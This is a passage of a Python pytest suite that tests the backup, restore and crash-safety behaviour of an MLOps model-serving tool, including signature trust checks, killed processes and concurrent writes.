    before = contents(half)
    assert main(words) == 2
    assert f"fashion-mlops restore --finish --to {half}" in capsys.readouterr().err
    assert contents(half) == before

def test_it_is_finished_without_the_backup(half, tmp_path, capsys):
    (tmp_path/"b.tar.gz").unlink()
    assert main(["restore", "--finish"]) == 0 and "is whole now" in capsys.readouterr().out
    assert open_champion("shades")[0].version == 3 and len(read_trail("shades")) == 1
    assert main(["restore", "--finish"]) == 2 and "nothing to finish" in capsys.readouterr().err

def test_on_a_network_disk_it_is_finished_too(half, monkeypatch):
    "NFS locks no folders."
    import fcntl
    import stat
    real = fcntl.flock
    def flock(file, how):
        if stat.S_ISDIR(os.fstat(file if isinstance(file, int) else file.fileno()).st_mode): raise OSError(9, "Bad file descriptor")
        return real(file, how)
    monkeypatch.setattr(fcntl, "flock", flock)
    assert main(["restore", "--finish"]) == 0

def test_what_does_not_answer_does_not_land(here, tmp_path, capsys):
    "It is tried before anything of the home that is there is moved."
    serving = here/"data"/"serving"/"shades"/"v3"
    model = next(path for path in serving.iterdir() if path.suffix == ".onnx")
    whole = model.read_bytes()
    model.write_bytes(whole[:-1])
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    model.write_bytes(whole)
    before = contents(here)
    assert main(["restore", str(tmp_path/"b.tar.gz"), "--over"]) == 2 and "--even-so" in capsys.readouterr().err
    assert contents(here) == before and not (here/".restoring").exists()
    assert main(["restore", str(tmp_path/"b.tar.gz"), "--over", "--even-so"]) == 1

def test_a_pack_that_could_not_serve_is_said_when_it_is_backed_up_and_no_older_backup_goes(here, tmp_path, capsys):
    serving = here/"data"/"serving"/"shades"/"v3"
    model = next(path for path in serving.iterdir() if path.suffix == ".onnx")
    backup.back_up(tmp_path/"all"/"fashion_mlops-20250101T000000Z.tar.gz", say=quiet)
    model.write_bytes(model.read_bytes() + b"x")
    assert main(["backup", str(tmp_path/"all"), "--keep", "1"]) == 1
    said = capsys.readouterr()
    assert f"! shades: The pack shades/v3 is not opened: {model.name} has" in said.out and "older backups stay" in said.err
    made = backup.dated_backups(tmp_path/"all")
    assert len(made) == 2 and main(["backup", "--check", str(made[0])]) == 1
    assert "The pack shades/v3 is not opened" in capsys.readouterr().out

def test_what_is_to_be_done_is_told_of_the_place_where_it_is_to_land(here, tmp_path, capsys):
    "And not of the folder in which it was tried, which is gone by then."
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    for path in (here/"data"/"keys").rglob("*.pub"): path.unlink()
    (here/"data"/"keys"/"signing.pem").unlink()
    make_signing_key(here/"data"/"keys"/"signing.pem") # another one: what is packed was signed by the first
    backup.back_up(tmp_path/"c.tar.gz", say=quiet)
    assert main(["restore", str(tmp_path/"c.tar.gz"), "--to", str(tmp_path/"out"), "--trust", archive.read_archive(tmp_path/"c.tar.gz")["signature"]["key"]]) == 2
    said = capsys.readouterr().err
    assert "which is not trusted here" in said and ".unfinished" not in said and ".. " not in said and not (tmp_path/"out").exists()

def test_what_is_mounted_stays_and_is_said(here, tmp_path, monkeypatch, capsys):
    "As keys are on a cluster: nothing can be renamed onto them."
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    keys, real, mounted = here/"data"/"keys", os.rename, os.path.ismount
    def rename(one, two):
        if keys in (Path(one), Path(two)): raise OSError(16, "Device or resource busy", str(one))
        return real(one, two)
    monkeypatch.setattr(os, "rename", rename)
    monkeypatch.setattr(os.path, "ismount", lambda path: Path(path) == keys or mounted(path))
    (keys/"mine.pub").write_bytes((keys/"signing.pub").read_bytes())
    assert main(["restore", str(tmp_path/"b.tar.gz"), "--over"]) == 0
    assert "data/keys: mounted there" in capsys.readouterr().out and (keys/"mine.pub").exists()

def test_a_killed_restore_into_a_new_place_has_not_happened(here, tmp_path):
    backup.back_up(tmp_path/"b.tar.gz", say=quiet)
    def again(): restore.restore_home(tmp_path/"b.tar.gz", tmp_path/"out", say=quiet)
    for name, count in (("open", 6), ("utime", 3), ("rename", 0)):
        assert killed_when(again, name, count) == -signal.SIGKILL
        assert not (tmp_path/"out").exists()
    again()
    assert sorted(path.name for path in tmp_path.iterdir()) == ["b.tar.gz", "home", "out"]


# --- a real one ---

@pytest.fixture(scope="session")
def real_home(tmp_path_factory, empty_store) -> Path:
    "Two versions of a real model of orders in a real store, the second of them champion."
    from fashion_mlops.service.champion import promote, register_candidate
    from fashion_mlops.service.deployment import deploy
    from fashion_mlops.workflow import tracking
    from test_parity import orders, trained
    folder = tmp_path_factory.mktemp("real")/"home"
    folder.mkdir()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("FASHION_MLOPS_HOME", str(folder))
        patch.delenv("MLFLOW_TRACKING_URI", raising=False)
        (folder/"mlflow.db").write_bytes(empty_store.read_bytes())
        samples, scratch = orders(), tmp_path_factory.mktemp("trained")
        candidate, valid = trained(samples, scratch), samples.rows("valid")
        for version in (1, 2):
            about = json.loads((candidate/"model.json").read_text())
            (candidate/"model.json").write_text(json.dumps(about | {"temperature": 1 + version/10}))
            run = tracking.start_run("drawn", "08_registry")
            tracking.client().log_text(run, "a page", "report/08_registry.html")
            assert register_candidate("drawn", candidate, run, samples.at(valid[:2]), {}, samples.at(valid)) == (version, True)
            tracking.end_run(run)
            promote("drawn", version, version - 1 or None, f"version {version} is better")
            deploy("drawn", {})
        keys = tracking.client().search_runs(["1"])
        assert len(keys) == 2
    return folder


@pytest.fixture
def real(real_home, tmp_path, monkeypatch) -> Path:
    "A copy of it, where services and commands look."
    shutil.copytree(real_home, tmp_path/"home")
    monkeypatch.setenv("FASHION_MLOPS_HOME", str(tmp_path/"home"))
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    return tmp_path/"home"


def known_runs(home: Path) -> list:
    "Runs, registered versions and aliases of a store, without addresses."
    with closing(sqlite3.connect(home/"mlflow.db")) as store:
        queries = ("select run_uuid, status, start_time, end_time from runs order by 1", "select key, value, run_uuid from tags order by 1, 3",
                   "select name, version, run_id, status from model_versions order by 2", "select name, alias, version from registered_model_aliases",
                   "select key, value, version from model_version_tags order by 1, 3")
        return [store.execute(query).fetchall() for query in queries]

def answers(home: Path, rows: list[dict]) -> list:
    "What a real service of a home says to some rows."
    one = Running(home, dataset="drawn")
    status, said, _ = one.rows(*rows)
    assert status == 200 and one.end() == 0
    return said["predictions"]


@pytest.mark.slow
def test_backup_wipe_restore_elsewhere_and_everything_is_as_it_was(real, tmp_path, monkeypatch):
    "The champion, its answers, the trail, the runs and the log; what is registered can be fetched, and what serves can be changed."
    from fashion_mlops.service.champion import champion_version, load_version
    from fashion_mlops.service.log_files import log_folder, read_log
    from test_parity import orders
    rows = json.loads(orders().inputs[:20].to_json(orient="records", date_format="iso"))
    before = answers(real, rows), read_trail("drawn"), known_runs(real), read_log(log_folder("drawn")).drop(columns="seconds").to_json()
    assert main(["backup", str(tmp_path/"b.tar.gz")]) == 0
    shutil.copy(real/"data"/"keys"/"signing.pub", tmp_path/"kept apart.pub")
    shutil.rmtree(real)
    monkeypatch.setenv("FASHION_MLOPS_HOME", str(tmp_path/"an other home"))
    assert main(["restore", str(tmp_path/"b.tar.gz"), "--trust", str(tmp_path/"kept apart.pub")]) == 0
    there = tmp_path/"an other home"
    log = read_log(log_folder("drawn")).drop(columns="seconds").to_json()
    assert (answers(there, rows), read_trail("drawn"), known_runs(there), log) == before
    assert champion_version("drawn") == 2 and open_champion("drawn")[0].as_expected() is None
    for version in (1, 2): assert load_version("drawn", version)[1]["version"] == version
    for words in (["rollback"], ["promote", "2"], ["traffic", "canary", "1", "--share", "0.2"]):
        assert main([*words, "--dataset", "drawn", "--reason", "a test"]) == 0
    assert [change["what"] for change in read_trail("drawn")][-3:] == ["rolled back", "promoted", "traffic"]


WRITER = """
import itertools, shutil, sys
from fashion_mlops.core import home, write_json
from fashion_mlops.service import champion, deployment
from fashion_mlops.workflow import tracking
for count in itertools.count():
    run = tracking.start_run("drawn", f"run {count}")
    tracking.client().log_metric(run, "count", count)
    tracking.client().log_text(run, "page"*1000, "report.html")
    tracking.client().set_tag(run, "has_report", "yes")
    tracking.end_run(run)
    now = champion.champion_version("drawn")
    champion.promote("drawn", 3 - now, now, f"round {count}")
    deployment.deploy("drawn")
    if not count: print("at work", flush=True)
"""

@pytest.mark.slow
def test_taken_while_a_service_answers_and_another_process_writes_it_is_of_one_moment(real, tmp_path, monkeypatch):
    "Versions change places, runs begin and end, rows are logged and merged: what was taken agrees with itself, and no request fails."
    from fashion_mlops.service.log_files import log_folder, merge_day, read_log
    from test_parity import orders
    rows = json.loads(orders().inputs[:2].to_json(orient="records", date_format="iso"))
    service, failed, asked, end = Running(real, dataset="drawn"), [], [], threading.Event()
    def ask():
        while not end.is_set():
            status, said, headers = service.rows(*rows)
            (asked if status == 200 else failed).append(said)
            for day in log_folder("drawn").glob("????-??-??"): merge_day(day, "predictions")
            time.sleep(0.02)
    writer = subprocess.Popen([sys.executable, "-c", WRITER], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    asking = threading.Thread(target=ask)
    asking.start()
    try:
        assert writer.stdout.readline() == "at work\n", writer.communicate()[1]
        backup.back_up(tmp_path/"warm.tar.gz", say=quiet)
        for number in range(4):
            before = len(asked)
            time.sleep(1.2) # longer than the log waits before it writes
            said = backup.back_up(tmp_path/f"{number}.tar.gz", say=quiet)
            there = tmp_path/f"restored {number}"
            made = restore.restore_home(tmp_path/f"{number}.tar.gz", there, say=quiet)
            assert made["datasets"]["drawn"]["fault"] == ""
            monkeypatch.setenv("FASHION_MLOPS_HOME", str(there))
            trail = read_trail("drawn")
            assert trail[-1]["version"] == said["datasets"]["drawn"]["champion"] and len(trail) == said["datasets"]["drawn"]["changes"]
            with closing(sqlite3.connect(there/"mlflow.db")) as store:
                finished = store.execute("select r.run_uuid, r.artifact_uri from runs r join tags t using (run_uuid) where t.key = 'has_report'").fetchall()
            assert all(Path(place.removeprefix("file://").replace("%20", " "), "report.html").stat().st_size == 4000 for _, place in finished) and finished
            assert len(read_log(log_folder("drawn"))) >= 2*before
            monkeypatch.setenv("FASHION_MLOPS_HOME", str(real))
    finally:
        end.set()
        asking.join()
        writer.kill()
        writer.communicate()
        assert service.end() == 0
    assert not failed and len(asked) > 20


@pytest.mark.slow
def test_killed_at_any_time_by_the_system_nothing_half_is_left(real, tmp_path):
    "The commands themselves, killed after some time; what comes after them is whole."
    def killed(*words, after: float) -> bool:
        process = subprocess.Popen([sys.executable, "-m", "fashion_mlops.cli", *map(str, words)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        process.stdout.readline() # the first part is over
        time.sleep(after)
        process.kill()
        process.communicate()
        return process.returncode == -signal.SIGKILL
    ends = [killed("backup", tmp_path/"b.tar.gz", after=after) for after in (0.0, 0.03, 0.06) if not (tmp_path/"b.tar.gz").exists()]
    assert any(ends) and not (tmp_path/"b.tar.gz").exists() or archive.read_archive(tmp_path/"b.tar.gz")
    backup.back_up(tmp_path/"c.tar.gz", say=quiet)
    ends = [killed("restore", tmp_path/"c.tar.gz", "--to", tmp_path/"out", after=after) for after in (0.0, 0.02, 0.05) if not (tmp_path/"out").exists()]
    if (tmp_path/"out").exists(): assert contents(tmp_path/"out") == contents(real)
    else: restore.restore_home(tmp_path/"c.tar.gz", tmp_path/"out", say=quiet)
    assert any(ends) and not [path for path in tmp_path.iterdir() if path.name.startswith(".out")]


def test_packs_and_keys_alone_answer_and_say_what_a_change_wants(here, tmp_path, capsys):
    "A serving machine that was given data/serving and data/keys, by hand."
    from fashion_mlops.service.traffic_changes import settled_traffic
    shutil.rmtree(here/"data"/"audit")
    for _ in range(2):
        assert settled_traffic("shades").mode == "champion" and open_champion("shades")[0].version == 3
        assert main(["traffic", "champion", "--dataset", "shades", "--reason", "a test"]) == 2
        said = capsys.readouterr().err
        assert "Bring it from a backup" in said
    command = said.rpartition("begin here: ")[2].split()
    subprocess.run(command, check=True)
    assert main(["traffic", "champion", "--dataset", "shades", "--reason", "a test"]) == 0
    assert [change["what"] for change in read_trail("shades")] == ["traffic"]
